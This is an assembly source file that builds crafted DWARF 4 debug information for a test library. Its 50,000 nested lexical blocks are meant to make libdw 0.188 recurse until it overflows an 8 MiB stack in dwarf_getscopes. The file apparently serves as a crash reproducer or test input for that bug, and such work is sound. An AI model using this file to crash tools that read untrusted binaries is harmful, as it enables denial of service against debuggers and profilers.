/*
 * DWARF 4 for libcrafteddies.so: one unit covering lib_leak (and the 4 KiB
 * after it), its subprogram, then DEPTH lexical blocks each inside the one
 * before, all covering it.  libdw 0.188 walks scopes (dwarf_getscopes, for
 * the inlined functions at an address) by recursion: 50 000 levels
 * overflow an 8 MiB stack.  850 KB of .debug_info.
 */
#ifndef DEPTH
#define DEPTH 50000
#endif
#define DW_TAG_compile_unit	0x11
#define DW_TAG_subprogram	0x2e
#define DW_TAG_lexical_block	0x0b
#define DW_AT_name		0x03
#define DW_AT_low_pc		0x11
#define DW_AT_high_pc		0x12
#define DW_FORM_addr		0x01
#define DW_FORM_data8		0x07
#define DW_FORM_string		0x08
#define COVERED			0x1000

	.section .debug_abbrev,"",@progbits
abbrev:
	.uleb128 1; .uleb128 DW_TAG_compile_unit; .byte 1
	.uleb128 DW_AT_name; .uleb128 DW_FORM_string
	.uleb128 DW_AT_low_pc; .uleb128 DW_FORM_addr
	.uleb128 DW_AT_high_pc; .uleb128 DW_FORM_data8
	.byte 0, 0
	.uleb128 2; .uleb128 DW_TAG_subprogram; .byte 1
	.uleb128 DW_AT_name; .uleb128 DW_FORM_string
	.uleb128 DW_AT_low_pc; .uleb128 DW_FORM_addr
	.uleb128 DW_AT_high_pc; .uleb128 DW_FORM_data8
	.byte 0, 0
	.uleb128 3; .uleb128 DW_TAG_lexical_block; .byte 1
	.uleb128 DW_AT_low_pc; .uleb128 DW_FORM_addr
	.uleb128 DW_AT_high_pc; .uleb128 DW_FORM_data8
	.byte 0, 0
	.byte 0

	.section .debug_info,"",@progbits
cu:
	.long cu_end - cu_version
cu_version:
	.short 4
	.long abbrev
	.byte 8
	.uleb128 1; .asciz "crafted.c"; .quad lib_leak; .quad COVERED
	.uleb128 2; .asciz "lib_leak"; .quad lib_leak; .quad COVERED
	.rept DEPTH
	.uleb128 3; .quad lib_leak; .quad COVERED
	.endr
	.rept DEPTH
	.byte 0
	.endr
	.byte 0, 0
cu_end:

/* libdw 0.188 finds a unit by address only through .debug_aranges. */
	.section .debug_aranges,"",@progbits
	.long aranges_end - aranges_version
aranges_version:
	.short 2
	.long cu
	.byte 8, 0
	.long 0
	.quad lib_leak, COVERED
	.quad 0, 0
aranges_end:

	.section .note.GNU-stack,"",@progbits
